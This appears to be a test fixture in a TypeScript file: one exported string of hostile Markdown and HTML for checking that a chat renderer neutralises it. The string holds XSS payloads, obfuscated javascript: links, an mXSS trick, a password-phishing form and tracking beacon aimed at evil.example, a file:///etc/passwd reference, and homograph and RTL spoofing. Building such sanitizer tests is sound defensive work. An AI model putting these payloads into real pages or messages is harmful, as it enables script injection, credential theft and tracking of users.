/** Markdown and HTML that try to run code, to leave the chat, to spy or to look like something else. */
export const HOSTILE = `# Nothing here may run

<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<svg onload="alert('svg')"><a xlink:href="javascript:alert(1)"><text y="20">svg link</text></a></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<a href="javascript:alert('link')" onclick="alert('click')">a plain link</a>
<style>body { display: none !important } * { position: fixed }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in again</button></form>
<template><img src=x onerror=alert('template')></template>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<div id="document" name="cookie" style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>
<details open ontoggle="alert('toggle')"><summary>summary</summary></details>
<video autoplay src="https://evil.example/beacon.mp4"></video>

[javascript link](javascript:alert(1)) · [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) · [vbscript](vbscript:msgbox(1)) · [spaced](java
script:alert(1)) · [entity](&#106;avascript:alert(1)) · [upper](JaVaScRiPt:alert(1))

![beacon](https://evil.example/pixel.png?session=1) ![local](file:///etc/passwd) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<https://bank.example@evil.example/login> and [https://bank.example](https://evil.example/login)

\`\`\`html"><img src=x onerror=alert('fence')>
<script>alert('in code, harmless')</script>
\`\`\`

| a | b |
|---|---|
| <img src=x onerror=alert('cell')> | <b onmouseover=alert(1)>hover</b> |

Z̶̡̛̦̮̖͉͒̈́͊̏͗̕͜ą̸̧̛̟̥̱̮̃̈́̒̄̋͘l̵̢̛̛̳̖̱̰̈́̑͑͌͝g̴̢̛͍̣̟̹̊͛̐̈́͂͠o̸̧̨̭̤̙͐̿̾̒̕͠ and a right-to-left override: \u202Egnp.exe\u202C, zero width: pay\u200Bpal.
`;
